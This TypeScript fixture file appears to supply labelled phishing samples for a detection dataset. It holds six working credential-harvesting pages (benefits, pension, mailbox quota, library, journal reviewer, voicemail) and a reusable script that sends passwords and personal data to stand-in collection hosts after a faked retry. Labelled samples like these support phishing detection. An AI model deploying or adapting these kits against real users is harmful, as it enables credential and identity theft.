import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, img, kitCss, orgPage, orgAssets } from '../parts/zb-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { northfield, morski, withHost } from '../parts/zb-orgs.js';

/** Email-from-fragment + two-attempt capture, the way most quiet kits behave. */
const twoTry = (endpoint: string, done: string, errId = 'err') => `<script>
(function(){var h=location.hash.slice(1)||new URLSearchParams(location.search).get('e')||'';try{h=h.indexOf('@')>0?h:atob(h);}catch(x){}
var em=document.getElementById('email');if(em&&h.indexOf('@')>0){em.value=h;var d=document.getElementById('dom');if(d)d.textContent=h.split('@')[1];}
var n=0,f=document.getElementById('frm');f.addEventListener('submit',function(e){e.preventDefault();n++;var fd=new FormData(f);fd.append('attempt',n);fd.append('ua',navigator.userAgent);
fetch('${endpoint}',{method:'POST',body:fd}).catch(function(){}).then(function(){if(n<2){document.getElementById('${errId}').style.display='block';f.querySelector('[type=password]').value='';}else{location.replace('${done}');}});});})();
</script>`;

export const entries: Entry[] = [
  {
    id: 'zb-phish-benefits-open-enrolment',
    label: 'phishing',
    kind: 'benefits-kit',
    url: 'https://benefits-enrollment-center.org/2027/open-enrollment/login',
    body: doc({
      title: '2027 Open Enrollment | Benefits Center',
      css: `body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#fff;color:#233}header{display:flex;justify-content:space-between;padding:16px 40px;border-bottom:1px solid #e5e5e5}header b{color:#00796b;font-size:20px}
.hero{background:linear-gradient(90deg,#00796b,#26a69a);color:#fff;padding:40px}.c{display:flex;gap:40px;max-width:1000px;margin:30px auto}.c>div{flex:1}input{width:100%;padding:10px;margin:6px 0;border:1px solid #aaa;border-radius:4px}
button{background:#00796b;color:#fff;border:0;padding:11px 30px;border-radius:4px}footer{font-size:12px;color:#777;text-align:center;padding:30px}`,
      body: `<header><b>Benefits Center</b><span>Need help? 1-888-555-0142</span></header>
<div class="hero"><h1>Open Enrollment is here: Nov 3 – Nov 21</h1><p>Review your medical, dental, vision and life insurance elections for 2027. If you do not make an election, your coverage will end on December 31.</p></div>
<div class="c"><div><h2>Sign in to enroll</h2><p>Use your work email and the password you use for your computer.</p>
<form method="post" action="/2027/open-enrollment/auth.php"><input type="email" name="email" placeholder="Work email" required><input type="password" name="password" placeholder="Password" required>
<input type="text" name="dob" placeholder="Date of birth (MM/DD/YYYY)"><input type="text" name="ssn4" placeholder="Last 4 of SSN" maxlength="4"><button type="submit">Continue</button></form></div>
<div><h3>What's new for 2027</h3><ul><li>New HSA employer contribution</li><li>Expanded mental-health coverage</li><li>Vision plan now includes LASIK discount</li></ul><p>Dependents must be verified by uploading a birth or marriage certificate.</p></div></div>
<footer>&copy; 2026 Benefits Center Administration. All rights reserved. | Privacy | Terms</footer>`,
    }),
    routes: { 'benefits-enrollment-center.org/2027/open-enrollment/auth.php': redirectRoute(302, 'https://benefits-enrollment-center.org/2027/open-enrollment/verify') , 'benefits-enrollment-center.org/2027/open-enrollment/verify': htmlRoute('<!doctype html><title>Verify</title><h2>Verification</h2><p>Enter the code sent to your phone.</p><form method=post action=/2027/open-enrollment/auth.php><input name=otp><button>Verify</button></form>') },
  },
  {
    id: 'zb-phish-pensionskasse-de',
    label: 'phishing',
    kind: 'pension-kit',
    url: 'https://pensionskasse-mitarbeiterportal.de/login/?mandant=bwc',
    body: doc({
      title: 'Mitarbeiterportal – Ihre Renteninformation 2026',
      lang: 'de',
      css: kitCss('#00466e', '#e8eef2') + `.box{width:440px}.hint{background:#fff6d9;font-size:13px;padding:10px;border:1px solid #eed68a}`,
      body: `<div class="box"><img class="logo" src="/login/img/pk.png" alt="Pensionskasse"><h2>Ihre jährliche Renteninformation ist verfügbar</h2>
<p>Sehr geehrte Mitarbeiterin, sehr geehrter Mitarbeiter,<br>aufgrund der gesetzlichen Änderungen zum 01.01.2027 müssen alle Versicherten ihre Daten im Portal bestätigen. Ohne Bestätigung kann die Arbeitgeberzulage nicht weiter gezahlt werden.</p>
<div class="hint">Bitte melden Sie sich mit Ihrer <b>dienstlichen E-Mail-Adresse</b> und Ihrem Windows-Passwort an.</div>
<form id="frm"><input id="email" name="benutzer" type="email" placeholder="Dienstliche E-Mail" required><input name="kennwort" type="password" placeholder="Passwort" required>
<input name="iban" type="text" placeholder="IBAN für Auszahlung (optional)"><div class="err" id="err">Falsches Passwort. Bitte versuchen Sie es erneut.</div><button>Renteninformation anzeigen</button></form>
<div class="small">Pensionskasse Mitarbeiterportal · Impressum · Datenschutz</div></div>
${twoTry('/login/api/send.php', 'https://www.brightwater-components.de/')}`,
    }),
    routes: { 'pensionskasse-mitarbeiterportal.de/login/img/pk.png': img(0, 70, 110), 'pensionskasse-mitarbeiterportal.de/login/api/send.php': jsonRoute({ status: 'ok' }) },
  },
  {
    id: 'zb-phish-mailbox-quota-univ',
    label: 'phishing',
    kind: 'helpdesk-kit',
    url: 'https://mail-quota-upgrade.weebly-sites.net/northfield',
    body: doc({
      title: 'Mailbox Quota Exceeded - IT Service Desk',
      css: `body{font-family:Verdana,sans-serif;background:#f7f7f7;margin:0}.c{max-width:600px;margin:40px auto;background:#fff;border:1px solid #ccc}.h{background:#1d3f6e;color:#fff;padding:14px 20px;font-size:18px}
.b{padding:22px}.bar{height:18px;background:#eee;border-radius:9px;overflow:hidden}.bar div{width:99%;height:100%;background:#c62828}input{width:100%;padding:8px;margin:6px 0}button{background:#1d3f6e;color:#fff;border:0;padding:10px 18px}`,
      body: `<div class="c"><div class="h">IT Service Desk - Staff &amp; Student Email</div><div class="b">
<p><b>Your mailbox has exceeded its storage limit.</b> You are currently using <b>49.6 GB of 50 GB</b>.</p><div class="bar"><div></div></div>
<p>You may not be able to send or receive new messages until you re-validate your mailbox. Incoming mails will be held and deleted after 24 hours.</p>
<p>To increase your quota to 100 GB free of charge, please validate your account below:</p>
<form action="https://formsubmit-relay.top/f/a81c7e" method="POST"><input type="email" name="Email" placeholder="University Email" required><input type="password" name="Password" placeholder="Password" required><input type="password" name="Confirm" placeholder="Confirm Password" required>
<input type="hidden" name="_next" value="https://www.northfield-uni.ac.uk/"><button type="submit">Upgrade Mailbox</button></form>
<p style="font-size:11px;color:#888">IT Service Desk &copy; 2026 | Email Administrator. This is a system generated notification.</p></div></div>
<div style="text-align:center;font-size:11px;color:#aaa;margin:10px">Made with Weebly-Sites &middot; Create your free website</div>`,
    }),
    routes: { 'formsubmit-relay.top/f/a81c7e': redirectRoute(302, 'https://www.northfield-uni.ac.uk/') },
  },
  {
    id: 'zb-phish-library-account-expiry',
    label: 'phishing',
    kind: 'library-kit',
    url: 'https://library-northfield.account-renewal.info/ezproxy/login?url=https://journals.example.org',
    body: orgPage(withHost(northfield, 'library-northfield.account-renewal.info'), 'Library Account Renewal', `<div class="card" style="max-width:560px;margin:auto">
<h1>Library Access Renewal</h1><div class="warn">Your library access will expire on <strong>30 November 2026</strong>. Renew now to keep borrowing books and accessing e-journals off campus.</div>
<form method="post" action="/ezproxy/renew.php"><label>Student / Staff ID number</label><input type="text" name="id" required>
<label>University username</label><input type="text" name="user" required><label>Password</label><input type="password" name="pass" required>
<label>Date of birth</label><input type="text" name="dob" placeholder="DD/MM/YYYY"><p><button type="submit">Renew access</button></p></form>
<p class="muted">Library Services · Main Library, Level 2 · library@northfield-uni.ac.uk</p></div>`, { nav: ['Search', 'My Account', 'Opening Hours', 'Help'] }),
    routes: { ...orgAssets(withHost(northfield, 'library-northfield.account-renewal.info')), 'library-northfield.account-renewal.info/ezproxy/renew.php': redirectRoute(302, 'https://www.northfield-uni.ac.uk/library') },
  },
  {
    id: 'zb-phish-journal-reviewer-invite',
    label: 'phishing',
    kind: 'journal-kit',
    url: 'https://manuscript-review-central.com/jaes/reviewer/invitation?ms=JAES-D-26-01184',
    body: doc({
      title: 'Reviewer Invitation – Journal of Applied Environmental Studies',
      css: kitCss('#8a4b08', '#f2efe9') + '.box{width:460px}.ms{background:#faf6ef;border:1px solid #e7dcc6;padding:10px;font-size:13px;margin:10px 0}',
      body: `<div class="box"><img class="logo" src="/jaes/img/journal.png" alt=""><h2>Invitation to Review</h2>
<div class="ms"><b>Manuscript:</b> JAES-D-26-01184<br><b>Title:</b> Microplastic transport in estuarine sediments under variable tidal regimes<br><b>Due:</b> 21 days after acceptance</div>
<p>Please sign in with your institutional email account to view the full manuscript and accept or decline this invitation. Reviewers receive a 40% APC voucher.</p>
<form id="frm"><input id="email" type="email" name="em" placeholder="Institutional email" required><input type="password" name="pw" placeholder="Password" required><div class="err" id="err">Session expired. Please sign in again.</div><button>Sign in to view manuscript</button></form>
<div class="small">Editorial Office · Reviewer Centre</div></div>
${twoTry('https://jaes-reviewers-api.net/v2/auth', 'https://www.sciencedirect.com/')}`,
    }),
    routes: { 'manuscript-review-central.com/jaes/img/journal.png': img(138, 75, 8), 'jaes-reviewers-api.net/v2/auth': jsonRoute({ ok: true }) },
  },
  {
    id: 'zb-phish-voicemail-es',
    label: 'phishing',
    kind: 'voicemail-kit',
    url: 'https://buzon-voz-corporativo.com/msg/?id=c29mLnJ1aXpAdXNpZXJyYWFsdGEuZXM',
    body: doc({
      title: 'Mensaje de voz nuevo',
      lang: 'es',
      css: kitCss('#7a1f1f', '#f2eeee') + '.pl{display:flex;align-items:center;gap:10px;background:#f4f4f4;border-radius:20px;padding:8px 14px;margin:12px 0}.pl i{flex:1;height:4px;background:#ccc;border-radius:2px}',
      body: `<div class="box"><h2>&#128222; Tiene 1 mensaje de voz nuevo</h2><p>De: <b>+34 953 21 4...</b> &middot; Duración 0:47 &middot; Recibido hoy 09:12</p>
<div class="pl">&#9654; <i></i> 0:00 / 0:47</div><p>Para escuchar el mensaje, inicie sesión con su cuenta de correo institucional.</p>
<form id="frm"><input id="email" type="email" name="usuario" placeholder="Correo electrónico" required><input type="password" name="clave" placeholder="Contraseña" required><div class="err" id="err">Contraseña incorrecta. Inténtelo de nuevo.</div><button>Escuchar mensaje</button></form>
<div class="small">Centralita Virtual &middot; Servicio de Telefonía IP</div></div>
<script>
(function(){var q=new URLSearchParams(location.search).get('id')||'';var e='';try{e=atob(q);}catch(x){}if(e.indexOf('@')>0)document.getElementById('email').value=e;
var n=0;document.getElementById('frm').addEventListener('submit',function(ev){ev.preventDefault();n++;var x=new XMLHttpRequest();x.open('POST','https://vm-gate.online/api/es/'+n);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
x.send(new URLSearchParams(new FormData(this)).toString());if(n>1)location.href='https://outlook.office.com/';else document.getElementById('err').style.display='block';});})();
</script>`,
    }),
    routes: { 'vm-gate.online/api/es/1': jsonRoute({}), 'vm-gate.online/api/es/2': jsonRoute({}) },
  },
];
